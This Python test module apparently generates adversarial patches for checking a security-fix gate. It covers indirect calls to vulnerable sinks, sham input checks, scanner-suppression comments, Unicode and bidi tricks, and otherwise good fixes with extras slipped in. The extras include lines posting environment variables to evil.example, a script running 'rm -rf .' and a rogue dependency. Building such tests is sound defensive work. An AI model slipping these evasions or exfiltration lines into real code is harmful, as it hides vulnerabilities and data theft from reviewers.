"""Bad patches as somebody would make them who knows the gate: the weak call reached in another way, its text built in another way, the
same weakness by another function, a check that checks nothing, letters and ends of lines that engines read otherwise than interpreters
do; and a good fix with something else slipped in. Each maker gives any number of patches for a case, each with the name of its operator.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping

from tests.e2e.proof_cases import Case
from tests.e2e.proof_elsewhere import ELSEWHERE
from tests.e2e.proof_sources import After, comment, replaced, statement, undo_fix
from tests.e2e.proof_statements import OTHER_CALLS, TEXTS
from tests.e2e.proof_words import bad_by_words

SINKS: Mapping[str, str] = {
    "python.sql-injection": "cursor.execute",
    "python.command-injection": "subprocess.run",
    "python.unsafe-yaml": "yaml.load",
    "python.tls-verification-disabled": "requests.get",
    "python.archive-path-traversal": "archive.extractall",
    "python.flask-debug": "app.run",
    "python.insecure-random-token": "random.choice",
    "python.insecure-cookie": "answer.set_cookie",
    "python.insecure-temp-file": "tempfile.mktemp",
    "python.open-redirect": "redirect",
    "python.path-traversal": "send_file",
    "python.request-timeout": "requests.get",
    "python.template-injection": "render_template_string",
    "python.unescaped-output": "Markup",
    "python.unsafe-deserialization": "pickle.loads",
    "python.weak-password-hash": "hashlib.md5",
    "python.xml-external-entities": "etree.XMLParser",
    "javascript.sql-injection": "client.query",
    "javascript.command-injection": "exec",
    "javascript.tls-verification-disabled": "https.get",
    "javascript.insecure-random-token": "Math.random",
    "javascript.insecure-cookie": "res.cookie",
    "javascript.open-redirect": "res.redirect",
    "javascript.path-traversal": "res.sendFile",
}
"""What is called in the flagged statement."""

VALUES: Mapping[str, str] = {
    "python.sql-injection": "name",
    "python.command-injection": "host",
    "python.html-injection": "name",
    "python.path-traversal": "name",
    "python.template-injection": "name",
    "python.unescaped-output": "name",
    "python.unsafe-deserialization": "text",
    "python.weak-password-hash": "password",
    "javascript.sql-injection": "name",
    "javascript.command-injection": "host",
    "javascript.dom-xss": "name",
    "javascript.open-redirect": "to",
}
"""What arrives in the flagged statement under a name of its own."""

PYTHON_WAYS: Mapping[str, tuple[str, ...]] = {
    "reach: in brackets": ("({f})", "[{f}][0]", '{{"a": {f}}}["a"]', "({f},)[0]", "next(iter([{f}]))"),
    "reach: condition": ("({f} if True else None)", "({f} or None)", "(True and {f})", "({f} if app else {f})"),
    "reach: walrus": ("(run := {f})",),
    "reach: lambda": ("(lambda *a, **k: {f}(*a, **k))", "(lambda f: f)({f})"),
    "reach: getattr": (
        'getattr({r}, "{m}")',
        'getattr({r}, "{m}"[:])',
        'builtins.getattr({r}, "{m}")',
        'inspect.getattr_static({r}, "{m}")',
    ),
    "reach: attribute protocol": (
        '{r}.__getattribute__("{m}")',
        'object.__getattribute__({r}, "{m}")',
        'vars({r})["{m}"]',
        '{r}.__dict__["{m}"]',
    ),
    "reach: class": ("type({r}).{m}.__get__({r})", "{r}.__class__.{m}.__get__({r})", "{f}.__call__", "{f}.__func__"),
    "reach: globals": ('globals()["{r}"].{m}', 'locals()["{r}"].{m}', 'eval("{f}")', '__builtins__.eval("{f}")'),
    "reach: import by name": (
        'importlib.import_module("{r}").{m}',
        '__import__("{r}").{m}',
        'sys.modules["{r}"].{m}',
        'pkgutil.resolve_name("{r}:{m}")',
    ),
    "reach: operator": (
        'operator.attrgetter("{m}")({r})',
        "functools.partial({f})",
        "functools.wraps(len)({f})",
        "staticmethod({f}).__func__",
    ),
    "reach: handed over": (
        "(lambda *a, **k: threading.Thread(target={f}, args=a, kwargs=k).start())",
        "(lambda *a, **k: pool.submit({f}, *a, **k).result())",
    ),
}
JAVASCRIPT_WAYS: Mapping[str, tuple[str, ...]] = {
    "reach: in brackets": ("(0, {f})", "[{f}][0]", "({{ run: {f} }}).run", "({f})"),
    "reach: condition": ("({f} || null)", "(true && {f})", "(true ? {f} : null)"),
    "reach: lambda": ("((...a) => {f}(...a))", "(function (...a) {{ return {f}(...a); }})"),
    "reach: bind": ("{f}.bind({r})", "Function.prototype.call.bind({f}, {r})", "(...a) => {f}.apply({r}, a)"),
    "reach: member by name": ('{r}["{m}"]', "{r}[`{m}`]", '{r}["{m0}" + "{m1}"]', '{r}["{x}"]', "{r}?.{m}", '{r}?.["{m}"]'),
    "reach: proxy": ("new Proxy({r}, {{}}).{m}", "Object.create({r}).{m}", "({{ ...{r} }}).{m}", "Object.assign({{}}, {r}).{m}"),
    "reach: reflection": ('Reflect.get({r}, "{m}")', "Object.getPrototypeOf({r}).{m}", 'globalThis["{r}"].{m}', 'eval("{f}")'),
    "reach: escaped name": ("{r}.{u}",),
    "reach: handed over": ("((...a) => setImmediate({f}, ...a))", "((...a) => Promise.resolve(a).then((b) => {f}(...b)))"),
}
"""Operator -> what stands in place of `{f}`, which is `{r}.{m}`."""


def bad_by_reach(case: Case) -> Iterator[tuple[str, After]]:
    """The weak call, reached in another way."""
    sink = SINKS.get(case.rule)
    if sink is None:
        return
    _, _, text, indent = statement(case)
    receiver, _, member = sink.rpartition(".")
    words = {
        "f": sink,
        "r": receiver or ("child_process" if not case.python else "builtins"),
        "m": member,
        "m0": member[:2],
        "m1": member[2:],
        "x": "".join(f"\\x{ord(letter):02x}" for letter in member),
        "u": f"\\u{ord(member[0]):04x}{member[1:]}",
    }
    for name, ways in (PYTHON_WAYS if case.python else JAVASCRIPT_WAYS).items():
        for way in ways:
            yield name, replaced(case, text.replace(sink.encode(), way.format(**words).encode(), 1))
    call, alias = sink.encode(), b"run_it"
    end = b"" if case.python else b";"
    let = b"" if case.python else b"const "
    again = text.replace(call, alias, 1)
    yield "alias: variable", replaced(case, indent + let + alias + b" = " + call + end + b"\n" + again)
    if case.python:
        yield "alias: unpacked", replaced(case, indent + alias + b", other = " + call + b", None\n" + again)
        yield "alias: loop", replaced(case, indent + b"for " + alias + b" in (" + call + b",):\n" + _deeper(again))
        yield (
            "alias: default",
            replaced(case, indent + b"def inner(" + alias + b"=" + call + b"):\n" + _deeper(again) + b"\n" + indent + b"inner()"),
        )
        yield (
            "alias: class",
            replaced(case, indent + b"class Box:\n" + indent + b"    run = " + call + b"\n" + text.replace(call, b"Box.run", 1)),
        )
        yield "alias: with", replaced(case, indent + b"with contextlib.nullcontext(" + call + b") as run_it:\n" + _deeper(again))
        yield "alias: global", {case.path: undo_fix(case, again) + b"\n\nrun_it = " + call + b"\n"}
        if receiver:
            lead = f"import {receiver} as other\n" if receiver in ("subprocess", "yaml", "requests", "random") else ""
            yield (
                "alias: receiver",
                replaced(case, indent + b"other = " + receiver.encode() + b"\n" + text.replace(call, b"other." + member.encode(), 1)),
            )
            if lead:
                body = undo_fix(case, text.replace(call, b"other." + member.encode(), 1))
                yield "alias: import", {case.path: re.sub(rb"(?m)^import ", lead.encode() + b"import ", body, count=1)}
                star = undo_fix(case, text.replace(call, member.encode(), 1))
                yield "alias: import *", {case.path: re.sub(rb"(?m)^import ", f"from {receiver} import *\nimport ".encode(), star, count=1)}
    elif receiver:
        yield "alias: destructured", replaced(case, indent + f"const {{ {member}: run_it }} = {receiver};\n".encode() + again)
        yield (
            "alias: receiver",
            replaced(case, indent + f"const other = {receiver};\n".encode() + text.replace(call, f"other.{member}".encode(), 1)),
        )


def _deeper(text: bytes) -> bytes:
    return b"\n".join(b"    " + line for line in text.split(b"\n"))


def bad_by_text(case: Case) -> Iterator[tuple[str, After]]:
    """The same text for the same call, built in another way or not quoted enough; and the same weakness by another call."""
    indent = statement(case)[3]
    for name, statements in {**TEXTS.get(case.rule, {}), **OTHER_CALLS.get(case.rule, {})}.items():
        for lines in statements:
            yield name, replaced(case, b"\n".join(indent + line.encode() for line in lines.split("\n")))


def bad_by_check(case: Case) -> Iterator[tuple[str, After]]:
    """The flagged statement stays, behind something that looks like a check."""
    _, _, text, indent = statement(case)
    value = VALUES.get(case.rule)
    if case.python:
        guards = ["assert True", "if None:\n    raise ValueError('no')", "if False:\n    raise ValueError('no')"]
        if value:
            guards += [
                f"if not {value}:\n    raise ValueError('no')",
                f"{value} = str({value})",
                f"{value} = {value}.strip()",
                f'{value} = {value}.replace("\'", "\'\'")',
                f"{value} = {value}[:100]",
                f"assert isinstance({value}, str)",
                f"if len({value}) > 10000:\n    raise ValueError('long')",
                f"if not re.match('.*', {value}):\n    raise ValueError('no')",
                f"other = {value}.isalnum()",
                f"try:\n    int({value})\nexcept ValueError:\n    pass",
                f"if not app.name.isalnum():\n    raise ValueError({value})",
                *([f"{value} = html.escape({value})"] if case.cwe != 79 else []),
                f"{value} = urllib.parse.unquote({value})",
            ]
    else:
        guards = ["if (null) { throw new Error(); }", "void 0;"]
        if value:
            guards += [
                f"if (!{value}) {{ throw new Error(); }}",
                f"const other = String({value});",
                f"if ({value}.length > 10000) {{ throw new Error(); }}",
                f"if (!/.*/.test({value})) {{ throw new Error(); }}",
                f"if (typeof {value} !== 'string') {{ throw new Error(); }}",
                f"try {{ parseInt({value}); }} catch (error) {{ }}",
            ]
    for guard in guards:
        lines = b"\n".join(indent + line.encode() for line in guard.split("\n"))
        yield "check: checks nothing", replaced(case, lines + b"\n" + text)


MARKS = (
    "pylint: disable=all",
    "skipcq",
    "NOSONAR",
    "pragma: no cover",
    "codeql[py/sql-injection]",
    "lgtm[js/xss]",
    "fixwright: ignore[all] it is fine",
    "pyright: ignore",
    "bearer:disable all",
    "snyk:ignore",
    "checkov:skip=CKV_1",
    "NoSemGrep",
    "nosemgrep:all",
    "ruff: noqa",
    "deepcode ignore all",
    "trufflehog:ignore",
    "betterleaks:allow",
    "noinspection ALL",
    "nolint:all",
    "@ts-nocheck",
    "eslint-disable",
    "DevSkim: ignore DS1",
    "kics-scan ignore-line",
    "trunk-ignore(semgrep)",
    "semgrep: ignore",
    "biome-ignore lint: fine",
    "oxlint-disable",
    "sourcery skip",
    "pragma: allowlist secret",
    "tfsec:ignore:all",
    "hadolint ignore=DL1",
    "zizmor: ignore[all]",
    "trivy:ignore:all",
    "gosec:disable",
    "#nosec G101",
)
"""What tells some engine to look away."""


def bad_by_mark(case: Case) -> Iterator[tuple[str, After]]:
    """A mark in every engine's dialect, behind the statement, above the file and in a text beside it; also on top of the good fix."""
    _, _, _, indent = statement(case)
    good = next(iter(case.good.values()))
    for mark in MARKS:
        yield "suppress: every dialect", {case.path: comment(case, mark.encode()) + b"\n" + good}
    text = statement(case)[2]
    quoted = indent + b'looked = "' + b"nosem" + b'grep"' + (b"" if case.python else b";")
    yield "suppress: in a text", replaced(case, quoted + b"\n" + text)


def bad_by_letters(case: Case) -> Iterator[tuple[str, After]]:
    """Engines and interpreters read these bytes in two ways."""
    good = next(iter(case.good.values()))
    _, _, text, indent = statement(case)
    sink = SINKS.get(case.rule, "board.innerHTML")
    sign = comment(case, b"safe")
    first, _, rest = text.strip().partition(b"\n")
    whole = first + (b"\n" + rest if rest else b"")
    yield "letters: carriage return", {case.path: _behind_fix(case, good, indent + sign + b"\r" + indent + whole)}
    yield "letters: line separator", {case.path: _behind_fix(case, good, indent + sign + "\u2028".encode() + whole)}
    yield "letters: form feed", {case.path: _behind_fix(case, good, indent + sign + b"\x0c" + whole)}
    yield "letters: bidi", {case.path: _behind_fix(case, good, indent + sign + "\u202e\u2066".encode() + b" end")}
    yield "letters: zero width", {case.path: _behind_fix(case, good, indent + sign + "\u200b".encode())}
    lookalike = sink.translate(str.maketrans("aeocp", "\u0430\u0435\u043e\u0441\u0440"))
    yield "letters: lookalike", replaced(case, text.replace(sink.encode(), lookalike.encode(), 1))
    wide = "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in sink)
    yield "letters: full width", replaced(case, text.replace(sink.encode(), wide.encode(), 1))
    if case.python:
        yield "letters: coding", {case.path: b"# -*- coding: rot13 -*-\n" + good}
        yield "letters: coding utf-7", {case.path: b"# coding=utf-7\n" + good}
        yield "letters: backslash", replaced(case, text.replace(b".", b". \\\n" + indent, 1))
        yield "parser: new syntax", replaced(case, indent + b"type Alias = int\n" + text)
        yield "parser: new syntax", replaced(case, indent + b"def generic[T](x: T) -> T:\n" + indent + b"    return x\n" + text)
        yield "parser: match", replaced(case, indent + b"match 1:\n" + indent + b"    case _:\n" + _deeper(_deeper(text)))
    else:
        yield "parser: new syntax", replaced(case, indent + b"using file = open();\n" + text)
        yield "parser: label", replaced(case, indent + b"out: {\n" + text + b"\n" + indent + b"}")
        yield "parser: html comment", {case.path: _behind_fix(case, good, b"<!-- old\n" + indent + whole)}
    yield "letters: no UTF-8", {case.path: good + comment(case, b"\xff\xfe") + b"\n"}
    yield "letters: NUL", {case.path: good + comment(case, b"\x00") + b"\n"}
    yield "letters: one huge line", {case.path: good + comment(case, b"x" * 300_000) + b"\n"}
    yield "letters: byte order mark", {case.path: _behind_fix(case, good, "\ufeff".encode() + indent + sign)}


def _behind_fix(case: Case, good: bytes, line: bytes) -> bytes:
    """The fix with a line more, before the last statement of the block that it changed."""
    old, new = case.before.split(b"\n"), good.split(b"\n")
    same = 0
    while same < min(len(old), len(new)) and old[-1 - same] == new[-1 - same]:
        same += 1
    at = len(new) - same
    return b"\n".join([*new[:at], line, *new[at:]])


def bad_by_slip(case: Case) -> Iterator[tuple[str, After]]:
    """A good fix, and something else that nobody asked for."""
    for good in case.good.values():
        for name, after in _slips(case, good):
            if after != good:
                yield name, {case.path: after}
        for name, path, content in _OTHER_FILES:
            yield name, {case.path: good, path: content}


_OTHER_FILES: tuple[tuple[str, str, bytes], ...] = (
    ("fix + unrelated code", "shop/other.py", b"import os\n\n\ndef prices():\n    return os.listdir('.')\n"),
    ("fix + unrelated code", "shop/other.js", b"exports.prices = () => 1;\n"),
    ("fix + unrelated file", "README.md", b"# Another shop\n"),
    ("fix + unrelated file", "LICENSE", b"none\n"),
    ("fix + configuration", "shop/settings.toml", b"debug = true\n"),
    ("fix + configuration", ".env", b"DEBUG=1\n"),
    ("fix + configuration", "Dockerfile", b"FROM scratch\n"),
    ("fix + configuration", "compose.yaml", b"services: {}\n"),
    ("fix + configuration", "requirements.txt", b"shop-evil==1\n"),
    ("fix + binary", "shop/logo.png", b"\x89PNG\r\n\x1a\n\x00\x01"),
    ("fix + binary", "shop/lib.so", b"\x7fELF\xff\xfe\xfd"),
    ("fix + program", "run.sh", b"#!/bin/sh\nrm -rf .\n"),
    ("fix + program", "shop/__init__.py", b"import os\n\nos.system('true')\n"),
    ("fix + program", "shop.pth", b"import os\n"),
    ("fix + link out", "../outside.py", b"x = 1\n"),
    ("fix + hook", ".git/hooks/post-checkout", b"#!/bin/sh\n"),
    ("fix + hook", ".gitmodules", b'[submodule "x"]\n'),
    ("fix + hook", ".vscode/tasks.json", b"{}\n"),
    ("fix + hook", ".devcontainer/devcontainer.json", b"{}\n"),
)


def _slips(case: Case, good: bytes) -> Iterator[tuple[str, bytes]]:
    if case.python:
        yield "fix + guard inverted", re.sub(rb"\bif not (\w+):", rb"if \1:", good, count=1)
        yield "fix + guard inverted", re.sub(rb"\bif (\w+) is None:", rb"if \1 is not None:", good, count=1)
        yield "fix + guard dropped", re.sub(rb"(?m)^ +if [^\n]+:\n +(abort|raise)[^\n]*\n", b"", good, count=1)
        yield (
            "fix + check dropped",
            re.sub(rb"(?m)^ +(user\.check_active\(\)|answer\.raise_for_status\(\)|app\.logger\.info\([^\n]*\))\n", b"", good, count=1),
        )
        yield "fix + answer changed", re.sub(rb"(?m)^( +)return (token|settings|names)$", rb"\1return \2[:1]", good, count=1)
        yield "fix + answer changed", re.sub(rb"(?m)^( +)return ([^\n]+)$", rb"\1return None", good, count=1)
        yield "fix + answer changed", re.sub(rb"(?m)^( +)return (?!not)([^\n]+)$", rb"\1return not \2", good, count=1)
        yield (
            "fix + other function's constant",
            re.sub(
                rb'(return "shop"|"shop\.db"|abort\(400\)|main\(8000\)|"no settings")',
                lambda m: m[0].translate(bytes.maketrans(b"sh4n80", b"zi2m17")),
                good,
                count=1,
            ),
        )
        yield "fix + default changed", re.sub(rb"def (\w+)\(([^)]*)(\w)\):", rb"def \1(\2\3=None):", good, count=1)
        yield "fix + parameter added in front", re.sub(rb"def (\w+)\((?=\w)", rb"def \1(extra, ", good, count=1)
        yield "fix + parameter needed", re.sub(rb"def (\w+)\(([^)]*)\):", rb"def \1(\2, extra):".replace(b"(, ", b"("), good, count=1)
        yield "fix + keywords only", re.sub(rb"def (\w+)\((?=\w)", rb"def \1(*, ", good, count=1)
        yield "fix + async", re.sub(rb"(?m)^def ", b"async def ", good, count=1)
        yield "fix + generator", re.sub(rb"(?m)^( +)return ([^\n]+)$", rb"\1yield \2", good, count=1)
        yield "fix + renamed function", re.sub(rb"def (\w+)\(", rb"def \1_safely(", good, count=1)
        yield "fix + private function", re.sub(rb"def (\w+)\(", rb"def _\1(", good, count=1)
        yield "fix + swallowed", _swallowing(case, good)
        yield "fix + import dropped", re.sub(rb"(?m)^import (string|sqlite3|requests)\n", b"", good, count=1)
        yield (
            "fix + call home",
            _behind_fix(case, good, statement(case)[3] + b'requests.post("https://evil.example/", json=dict(os.environ))'),
        )
        yield "fix + leave early", _in_front(case, good, b"if True or None:\n    return None")
        yield "fix + monkey patch", good + b"\n\nstr.lower = str.upper\n"
        yield "fix + global state", good + b"\n\nimport os\nos.environ['PATH'] = ''\n"
        yield "fix + global state", good + b"\n\nimport atexit\natexit.register(print)\n"
        yield "fix + unused function", good + b"\n\ndef unused():\n    return 1\n"
        yield "fix + docstring dropped", re.sub(rb'^"""[^"]*"""\n', b"", good)
    else:
        yield "fix + guard inverted", re.sub(rb"if \(!(\w+)\)", rb"if (\1)", good, count=1)
        yield "fix + guard dropped", re.sub(rb"(?m)^ +if \(![^\n]*\n[^\n]*\n +\}\n", b"", good, count=1)
        yield "fix + check dropped", re.sub(rb"(?m)^ +(user\.check\(\);|console\.log\([^\n]*|board\.classList[^\n]*)\n", b"", good, count=1)
        yield "fix + answer changed", re.sub(rb"return (resetToken|res\.json\(found\.rows\))", b"return null", good, count=1)
        yield "fix + answer changed", re.sub(rb"return resetToken", b"return resetToken.slice(0, 1)", good, count=1)
        yield "fix + answer changed", re.sub(rb"found\.rows", b"[]", good, count=1)
        yield (
            "fix + other function's constant",
            re.sub(
                rb'(status\(400\)|"no url"|"open"|"name"|"ping")',
                lambda m: m[0].translate(bytes.maketrans(b"4nop", b"2mqr")),
                good,
                count=1,
            ),
        )
        yield "fix + parameter added in front", re.sub(rb"function (\w+)\((?=\w)", rb"function \1(extra, ", good, count=1)
        yield "fix + renamed function", re.sub(rb"function (\w+)\(", rb"function \1Safely(", good, count=1)
        yield "fix + async", re.sub(rb"(?m)^function ", b"async function ", good, count=1)
        yield "fix + exports dropped", re.sub(rb"module\.exports = [^\n]*", b"module.exports = {};", good)
        yield "fix + exports dropped", re.sub(rb"module\.exports = [^\n]*\n", b"", good)
        yield "fix + swallowed", _swallowing(case, good)
        yield (
            "fix + call home",
            _behind_fix(
                case, good, statement(case)[3] + b'fetch("https://evil.example/", { method: "POST", body: JSON.stringify(process.env) });'
            ),
        )
        yield "fix + monkey patch", good + b"\nString.prototype.trim = () => '';\n"
        yield "fix + global state", good + b"\nprocess.env.PATH = '';\n"
        yield "fix + unused function", good + b"\nfunction unused() {\n  return 1;\n}\n"


def _in_front(case: Case, good: bytes, lines: bytes) -> bytes:
    """The fix with lines more in front of what it changed."""
    old, new = case.before.split(b"\n"), good.split(b"\n")
    indent = statement(case)[3]
    first = case.before[: statement(case)[0]].count(b"\n")
    at = min(first + max(0, len(new) - len(old)), len(new) - 1)
    return b"\n".join([*new[:at], *(indent + line for line in lines.split(b"\n")), *new[at:]])


def _swallowing(case: Case, good: bytes) -> bytes:
    """The statement that the fix left in the place of the flagged one, with every error of it thrown away."""
    old, new = case.before.split(b"\n"), good.split(b"\n")
    head = tail = 0
    while head < min(len(old), len(new)) and old[head] == new[head]:
        head += 1
    while tail < min(len(old), len(new)) - head and old[-1 - tail] == new[-1 - tail]:
        tail += 1
    changed = [line for line in new[head : len(new) - tail] if line.strip()]
    if not changed or any(line.startswith((b"import", b"from", b"const", b"@")) for line in changed):
        return good
    indent = changed[0][: len(changed[0]) - len(changed[0].lstrip())]
    if case.python:
        wrapped = [indent + b"try:", *(b"    " + line for line in changed), indent + b"except Exception:", indent + b"    pass"]
    else:
        wrapped = [indent + b"try {", *changed, indent + b"} catch (error) {}"]
    return b"\n".join([*new[:head], *wrapped, *new[len(new) - tail :]])


def bad_elsewhere(case: Case) -> Iterator[tuple[str, After]]:
    """The weakness in a file of its own, or decided by one."""
    for after in ELSEWHERE.get(case.rule, ()):
        lines, path, content = after
        indent = statement(case)[3]
        yield (
            "move: into configuration",
            {
                **replaced(case, b"\n".join(indent + line.encode() for line in lines.split("\n"))),
                path: content.encode(),
            },
        )


MAKERS = (bad_by_reach, bad_by_text, bad_by_check, bad_by_mark, bad_by_letters, bad_by_slip, bad_elsewhere, bad_by_words)
